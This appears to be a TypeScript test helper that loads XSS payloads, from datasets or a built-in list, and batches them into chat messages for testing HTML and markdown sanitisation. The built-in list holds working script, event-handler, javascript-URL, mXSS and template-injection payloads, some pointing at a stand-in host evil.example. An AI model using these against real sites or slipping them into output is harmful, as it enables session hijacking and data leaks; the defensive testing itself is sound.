import { loadEvalRows } from '@lobby/testing/eval-data';

/** Some payloads of each kind, for a machine without the datasets. */
const BUILT_IN_PAYLOADS = [
  '<script>ran("script")</script>',
  '<img src=x onerror=ran("image")>',
  '<svg onload=ran("svg")><animate onbegin=ran("animate") attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe>',
  '<a href="javascript:ran(1)" id=lobby name=panel>click</a>',
  '<base href="https://evil.example/"><form action="//evil.example"><input name=attributes>',
  '<style>@import "https://evil.example/"</style><math><mtext><table><mglyph><style><img src onerror=ran(1)>',
  '[click](javascript:ran(1)) [click](JaVa\tScRiPt:ran(1)) [click](data:text/html,<script>ran(1)</script>)',
  '![x](https://evil.example/pixel.png) ![x][1]\n\n[1]: https://evil.example/pixel.png',
  '**<b onmouseover=ran(1)>bold</b>** `<script>ran(1)</script>` [<img src=x onerror=ran(1)>](https://ok.example/)',
  '&lt;script&gt;ran(1)&lt;/script&gt; \u202Egnp.exe \u0000 </textarea></div></main>',
  '{{constructor.constructor("ran(1)")()}} ${ran(1)} <%= ran(1) %> "]]></script>',
];
const DATASETS = ['xss_strings', 'markdown_html_llm_output', 'dompurify_payload_expected', 'files_svg_xml'];
const MAX_LENGTH = 3_900;

/** Messages full of XSS payloads: of the datasets if LOBBY_EVAL_DATA is set, else the built-in ones. */
export function loadXssPayloads(): string[] {
  const rows = DATASETS.flatMap((name) => loadEvalRows(`attack_xss_html/${name}.jsonl`) ?? []);
  const messages: string[] = [];
  for (const text of [...BUILT_IN_PAYLOADS, ...rows.map((row) => row.text)]) {
    const part = text.replaceAll('\u0000', '').slice(0, MAX_LENGTH).trim();
    const last = messages.at(-1);
    if (last === undefined || last.length + part.length + 1 > MAX_LENGTH) messages.push(part);
    else messages[messages.length - 1] = `${last}\n${part}`;
  }
  return messages;
}
